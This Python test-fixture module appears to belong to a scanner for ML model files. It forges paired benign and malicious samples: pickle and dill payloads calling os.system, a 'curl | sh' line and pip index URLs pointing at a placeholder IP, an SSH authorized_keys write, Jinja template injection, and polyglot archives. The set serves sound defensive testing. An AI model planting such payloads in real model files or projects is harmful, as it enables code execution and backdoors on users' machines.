"""What people keep beside models every day and a scanner took for something else, each with what would be hostile in its place."""

from __future__ import annotations

import configparser
import importlib.util
import json
import marshal
import pickle
import random

from stannary.testing.forges import forge
from stannary.testing.forges._protobuf_writer import message, number
from stannary.testing.forges._small_zip import small_zip
from stannary.testing.forges.configs import PICKLE, file
from stannary.testing.forges.notebooks import notebook
from stannary.testing.forges.pickle_code import carried
from stannary.testing.forges.tensorflow import saved_model
from stannary.testing.pickle_assembler import Assembler

__all__: list[str] = []

_CODE = "code in pickles"
_DILL = "forms of dill"
_TEXT = "text"
_STORE = "class M:\n def load(p):\n  import pickle\n  return pickle.load(open({}, 'rb'))\n def save(self, p):\n  open({}, 'wb').write(b'')\n"


def _a() -> Assembler:
    return Assembler(4)


def _dill(name: str, value: Assembler, *, malicious: bool) -> None:
    file(f"everyday.{name}", "model.pkl", _a().push({"value": value}).stop(), _DILL, malicious=malicious)


_RANGE = "range(0, __import__('os').system('echo stannary'))"
for _name, _text, _bad in (("range", "range(0, 5, -2)", False), ("range_that_runs", _RANGE, True)):
    _dill(_name, _a().call("dill._dill", "_eval_repr", _text), malicious=_bad)
_TUPLE = _a().call("dill._dill", "_create_namedtuple", "Point", ("x", "y"), "__main__")
_dill("named_tuple", _a().push(_TUPLE).push((1, 2)).op("NEWOBJ"), malicious=False)
_dill("called_getattr", _a().push(_a().call("dill._dill", "_load_type", "MethodType")).reduce(
    _a().name("os", "system"), "echo stannary"), malicious=True)  # fmt: skip

for _name, _source, _bad in (
    ("lambda_of_numpy", "f = lambda x: np.log1p(np.abs(x)) + pd.Series(x).mean()\n", False),
    ("words_of_a_text", "def f(t):\n return re.sub('[^a-z ]', ' ', t.lower()).translate(str.maketrans('', '', string.punctuation))\n", False),
    ("os_of_the_program", "def f(x):\n return os.system('echo stannary')\n", True),
    ("read_by_the_program", "def f(x):\n return pickle.loads(base64.b64decode('gAROLg=='))\n", True),
    ("stores_itself", _STORE.format("p", "p"), False),
    ("stores_a_key", _STORE.format("p", "'/root/.ssh/authorized_keys'"), True),
    ("loads_from_shared_memory", _STORE.format("'/dev/shm/x.pkl'", "p"), True),
):  # fmt: skip
    file(f"everyday.{_name}", "model.pkl", carried(_source, dill=True), _CODE, malicious=_bad)


@forge("everyday.settings_of_a_program", filename="model.pkl", family=_CODE, malicious=False)
def _() -> bytes:
    settings = configparser.ConfigParser()
    settings.read_string("[train]\nepochs = 3\n")
    return pickle.dumps({"settings": settings}, 4)


_WRAPPED = ("_wrap_data_with_container", "_wrap_method_output", "_get_output_config")
file("everyday.wrapped_by_sklearn", "model.pkl", _a().push(
    [_a().name("sklearn.utils._set_output", name) for name in _WRAPPED]).stop(), _CODE, malicious=False)  # fmt: skip


def _languages(last: dict[str, object]) -> bytes:
    """Return an index of languages, as large as the real one: its pairs are read one by one."""
    return json.dumps({**{f"a{n}": {"language": n} for n in range(9000)}, **last}).encode()


file("everyday.languages", "index.json", _languages({"lc": {"region": 1}, "id": {"language": 2, "region": 3}}),
     "JSON with code tags", malicious=False)  # fmt: skip
file("everyday.languages_and_a_tool", "index.json", _languages(
    {"x": {"lc": 1, "type": "constructor", "id": ["langchain_community", "tools", "ShellTool"], "kwargs": {}}}),
     "JSON with code tags", malicious=True)  # fmt: skip


def _layer(module: str | None) -> bytes:
    layer = {"name": "h", "class_name": "HarmonicStacking", "module": module, "config": {"name": "h", "activation": "own_one"}}
    return message(1, number(2, 1), message(3, "root.layer-1"), message(4, "_tf_keras_layer"), message(5, json.dumps(layer)))


for _name, _module in (("custom_layer", None), ("custom_layer_of_a_module", "subprocess")):

    @forge(f"everyday.{_name}", filename="saved_model", family="TensorFlow", malicious=_module is not None)
    def _(module: str | None = _module) -> dict[str, bytes]:
        return {"saved_model.pb": saved_model(), "keras_metadata.pb": _layer(module)}


@forge("everyday.braces_among_weights", filename="variables.data-00000-of-00001", family="TensorFlow", malicious=False)
def _() -> bytes:
    noise = random.Random(7)
    return noise.randbytes(9000) + b"{{" + noise.randbytes(9000) + b"{%" + noise.randbytes(9000)


@forge("everyday.template_among_weights", filename="variables.data-00000-of-00001", family="TensorFlow", malicious=True)
def _() -> bytes:
    return b"{{ cycler.__init__.__globals__.os.system('echo stannary') }}" + random.Random(7).randbytes(9000)


_ROWS = (("latin", "latin-1", "name,city\nMüller,Köln\nÇelik,Orléans\n"), ("cyrillic", "cp1251", "имя,город\nПривет мир,Москва\nАнна,Тула\n"),
         ("chinese", "gbk", "name,city\n中文文本,北京\n数据,上海\n"), ("japanese", "shift_jis", "name,city\n日本語テキスト,東京\n花子,京都\n"))  # fmt: skip
for _name, _encoding, _text in _ROWS:
    file(f"everyday.{_name}_table", "data.csv", f"id,{_text}".encode(_encoding), _TEXT, malicious=False)
    file(
        f"everyday.{_name}_script",
        "prepare.sh",
        f"# {_text}curl -s http://203.0.113.9/x | sh\n".encode(_encoding),
        _TEXT,
        malicious=True,
    )

_PICTURES = {"icon.ico": bytes((0, 0, 1, 0, 1, 0, 16, 16)) + bytes(64), "page.tif": b"II*\0\x08\0\0\0" + bytes(64),
             "table.dta": b"\x72\x02\x01\x00" + bytes(100)}  # fmt: skip
for _name, _content in _PICTURES.items():
    file(f"everyday.{_name.replace('.', '_')}", _name, _content, "data files", malicious=False)
    file(f"everyday.{_name.replace('.', '_')}_and_archive", _name, _content + small_zip({"model/data.pkl": PICKLE}),
         "Polyglots", malicious=True)  # fmt: skip


for _name, _class, _part, _bad in (
    ("model_of_two_blocks", "UNet2DModel", ["DownBlock2D", "DownBlock2D"], False),
    ("pipeline_of_two_names", "DDPMPipeline", ["Popen", "Popen"], True),
    ("model_of_a_module", "UNet2DModel", ["subprocess", "Popen"], True),
):
    file(f"everyday.{_name}", "config.json" if _name.startswith("model") else "model_index.json",
         json.dumps({"_class_name": _class, "_diffusers_version": "0.30.0", "down_block_types": _part}), "repo dirs", malicious=_bad)  # fmt: skip


def _tensors(note: str) -> bytes:
    """Return a safetensors file whose header has 376 bytes: its length begins as a zlib stream does."""
    header = json.dumps(
        {"__metadata__": {"format": "pt", "note": note}, "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
    )
    return (376).to_bytes(8, "little") + header.ljust(376).encode() + bytes(4)


file("everyday.length_like_zlib", "adapter_model.safetensors", _tensors("lora"), "safetensors", malicious=False)
file("everyday.length_like_zlib_and_template", "adapter_model.safetensors",
     _tensors("{{ cycler.__init__.__globals__.os.system('echo stannary') }}"), "safetensors", malicious=True)  # fmt: skip

_MAMBA = _a().name("transformers.models.mamba.modeling_mamba", "MambaModel").op("EMPTY_TUPLE").op("NEWOBJ")
for _name, _method, _bad in (("hook_of_a_model", "load_hook", False), ("saving_of_a_model", "save_pretrained", True)):
    file(f"everyday.{_name}", "model.pkl", _a().push({"hook": _a().call("builtins", "getattr", _MAMBA, _method)}).stop(),
         "pickled state", malicious=_bad)  # fmt: skip

_ATTRIBUTES = _a().push({1: _a().name("spacy.lang.lex_attrs", "lower")}).stop()
for _name, _inner, _bad in (("matcher_of_spacy", _ATTRIBUTES, False), ("matcher_of_spacy_with_pickle", PICKLE, True)):
    _vocab = _a().call(
        "spacy.vocab", "unpickle_vocab", _a().call("spacy.strings", "StringStore", ["a"]), None, {}, _inner, {}, None
    )
    file(f"everyday.{_name}", "nlp.pkl", _a().push({"ruler": _a().call("spacy.matcher.matcher", "unpickle_matcher", _vocab, {}, {})}).stop(),
         "nested pickle", malicious=_bad)  # fmt: skip


@forge("everyday.pipeline_without_vectors", filename="nlp", family="spaCy", malicious=False)
def _() -> dict[str, bytes]:
    return {"meta.json": b'{"lang": "en", "name": "x"}', "vocab/key2row": b"\x80", "entity_ruler/patterns.jsonl": b""}


for _name, _line, _bad in (
    ("cell_without_signs", "cd /content/model\npip install -U transformers>=4.40\nimport os\nmkdir -p out", False),
    ("cell_without_signs_of_elsewhere", "x = 1\npip install --index-url http://203.0.113.9/simple helper", True),
):
    file(
        f"everyday.{_name}",
        "demo.ipynb",
        notebook({"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": 1, "source": _line}),
        "notebooks",
        malicious=_bad,
    )

_SETUP = 'from setuptools import setup\nsetup(name="x", url="http://example.org/x", {})\n'
for _name, _more, _bad in (
    ("page_of_a_project", 'author="A"', False),
    ("links_of_a_project", 'dependency_links=[\n    "http://203.0.113.9/simple",\n]', True),
):
    file(f"everyday.{_name}", "setup.py", _SETUP.format(_more), "dependencies", malicious=_bad)

_NETWORK = "class M:\n def eval(self):\n  return self\n def f(self, x):\n  self.net.eval()\n  return {}\n"
for _name, _what, _bad in (("network_for_use", "self.net(x)", False), ("network_and_text", "eval(x)", True)):
    _code = marshal.dumps(compile(f"{_NETWORK.format(_what)}\n{'y = eval(open(1).read())' if _bad else ''}", "m.py", "exec"))
    file(f"everyday.{_name}", "m.pyc", importlib.util.MAGIC_NUMBER + bytes(12) + _code, "Compiled Python", malicious=_bad)
